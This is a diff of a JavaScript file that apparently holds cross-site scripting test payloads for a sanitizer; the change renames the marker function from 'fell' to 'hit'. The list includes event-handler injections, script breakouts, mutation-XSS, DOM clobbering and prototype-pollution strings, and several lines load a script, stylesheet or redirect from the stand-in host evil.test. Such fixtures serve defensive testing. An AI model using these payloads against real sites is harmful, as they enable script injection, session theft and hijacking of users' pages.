@@ -1,9 +1,9 @@
-/** Texts that become a script where they are taken for markup: each calls `fell`, or leaves an element with `data-fell`. */
+/** Texts that run as a script if taken for markup. Each calls `hit` or leaves an element with `data-hit`. */
 
-const CALL = 'fell(1)'
+const CALL = 'hit(1)'
 const ENCODED = '&#102;&#101;&#108;&#108;(1)'
 
-/** Elements that run a handler by themselves. */
+/** Elements that run a handler without interaction. */
 /** @type {[tag: string, attribute: string][]} */
 const BY_THEMSELVES = [
   ['img', 'src=x onerror'],
@@ -34,9 +34,9 @@ const BY_THEMSELVES = [
 ]
 
 const handlers = BY_THEMSELVES.flatMap(([tag, attribute]) => [
-  `<${tag} ${attribute}=${CALL} data-fell>`,
-  `"><${tag}/${attribute.replaceAll(' ', '/')}='${CALL}' data-fell>`,
-  `<${tag.toUpperCase()} ${attribute.toUpperCase()}=${ENCODED} data-fell>`,
+  `<${tag} ${attribute}=${CALL} data-hit>`,
+  `"><${tag}/${attribute.replaceAll(' ', '/')}='${CALL}' data-hit>`,
+  `<${tag.toUpperCase()} ${attribute.toUpperCase()}=${ENCODED} data-hit>`,
 ])
 
 const URLS = [
@@ -55,14 +55,14 @@ const URLS = [
 
 const addresses = URLS.flatMap((url) => [
   url,
-  `<a href="${url}" data-fell>click</a>`,
-  `<iframe src="${url}" data-fell></iframe>`,
-  `<form action="${url}" data-fell><button>x</button></form>`,
+  `<a href="${url}" data-hit>click</a>`,
+  `<iframe src="${url}" data-hit></iframe>`,
+  `<form action="${url}" data-hit><button>x</button></form>`,
 ])
 
 const BREAKOUTS = [
   `<script>${CALL}</script>`,
-  `<script src=https://evil.test/x.js data-fell></script>`,
+  `<script src=https://evil.test/x.js data-hit></script>`,
   `<script type=module>${CALL}</script>`,
   `<scr<script>ipt>${CALL}</scr</script>ipt>`,
   `<script\u00a0>${CALL}</script\u00a0>`,
@@ -74,7 +74,7 @@ const BREAKOUTS = [
   `</title><script>${CALL}</script>`,
   `</textarea><script>${CALL}</script>`,
   `</style><script>${CALL}</script>`,
-  `</noscript><img src=x onerror=${CALL} data-fell>`,
+  `</noscript><img src=x onerror=${CALL} data-hit>`,
   `--><script>${CALL}</script>`,
   `]]><script>${CALL}</script>`,
   `<!--><script>${CALL}</script>-->`,
@@ -92,36 +92,36 @@ const BREAKOUTS = [
   `" autofocus onfocus=${CALL} x="`,
   `' autofocus onfocus=${CALL} x='`,
   `" style="animation-name:x" onanimationstart="${CALL}`,
-  `<base href=https://evil.test/ data-fell>`,
-  `<meta http-equiv=refresh content="0;url=https://evil.test/" data-fell>`,
-  `<meta http-equiv=refresh content="0;url=javascript:${CALL}" data-fell>`,
-  `<style>@import'https://evil.test/x.css';</style><i data-fell>`,
-  `<div style="background:url(javascript:${CALL})" data-fell>`,
-  `<div style="width:expression(${CALL})" data-fell>`,
+  `<base href=https://evil.test/ data-hit>`,
+  `<meta http-equiv=refresh content="0;url=https://evil.test/" data-hit>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${CALL}" data-hit>`,
+  `<style>@import'https://evil.test/x.css';</style><i data-hit>`,
+  `<div style="background:url(javascript:${CALL})" data-hit>`,
+  `<div style="width:expression(${CALL})" data-hit>`,
   `<svg><script>${CALL}</script></svg>`,
-  `<svg><animate onbegin=${CALL} attributeName=x dur=1s data-fell>`,
-  `<svg><a><animate attributeName=href values=javascript:${CALL} /><text x=20 y=20>x</text></a><i data-fell>`,
-  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${CALL}' /></svg>#x" data-fell>`,
-  `<svg><foreignObject><img src=x onerror=${CALL} data-fell></foreignObject></svg>`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${CALL} data-fell>">`,
-  `<math><a xlink:href="javascript:${CALL}" data-fell>x</a></math>`,
-  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL} data-fell>`,
-  `<noscript><p title="</noscript><img src=x onerror=${CALL} data-fell>">`,
-  `<template><img src=x onerror=${CALL} data-fell></template>`,
+  `<svg><animate onbegin=${CALL} attributeName=x dur=1s data-hit>`,
+  `<svg><a><animate attributeName=href values=javascript:${CALL} /><text x=20 y=20>x</text></a><i data-hit>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${CALL}' /></svg>#x" data-hit>`,
+  `<svg><foreignObject><img src=x onerror=${CALL} data-hit></foreignObject></svg>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${CALL} data-hit>">`,
+  `<math><a xlink:href="javascript:${CALL}" data-hit>x</a></math>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL} data-hit>`,
+  `<noscript><p title="</noscript><img src=x onerror=${CALL} data-hit>">`,
+  `<template><img src=x onerror=${CALL} data-hit></template>`,
   `<select><noembed></select><script>${CALL}</script>`,
-  `<table background="javascript:${CALL}" data-fell>`,
-  `<isindex type=image src=1 onerror=${CALL} data-fell>`,
-  `<iframe srcdoc="<script>parent.${CALL}</script>" data-fell></iframe>`,
-  `<object data="data:text/html,<script>parent.${CALL}</script>" data-fell></object>`,
-  `<portal src=https://evil.test data-fell>`,
-  `<p id=fell name=fell><form id=window><input name=location data-fell>`,
-  `<a id=settings><a id=settings name=apiBase href=https://evil.test data-fell>`,
-  `{"__proto__":{"innerHTML":"<img src=x onerror=${CALL} data-fell>"}}`,
+  `<table background="javascript:${CALL}" data-hit>`,
+  `<isindex type=image src=1 onerror=${CALL} data-hit>`,
+  `<iframe srcdoc="<script>parent.${CALL}</script>" data-hit></iframe>`,
+  `<object data="data:text/html,<script>parent.${CALL}</script>" data-hit></object>`,
+  `<portal src=https://evil.test data-hit>`,
+  `<p id=hit name=hit><form id=window><input name=location data-hit>`,
+  `<a id=settings><a id=settings name=apiBase href=https://evil.test data-hit>`,
+  `{"__proto__":{"innerHTML":"<img src=x onerror=${CALL} data-hit>"}}`,
   `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
   `\u{FF1C}script\u{FF1E}${CALL}\u{FF1C}/script\u{FF1E}`,
   `<img src="x\` \`<script>${CALL}</script>"\` \`>`,
   `<img """><script>${CALL}</script>">`,
-  `<a href="https://evil.test/" target=_blank onclick=${CALL} data-fell>x</a>`,
+  `<a href="https://evil.test/" target=_blank onclick=${CALL} data-hit>x</a>`,
 ]
 
 /** @type {string[]} */
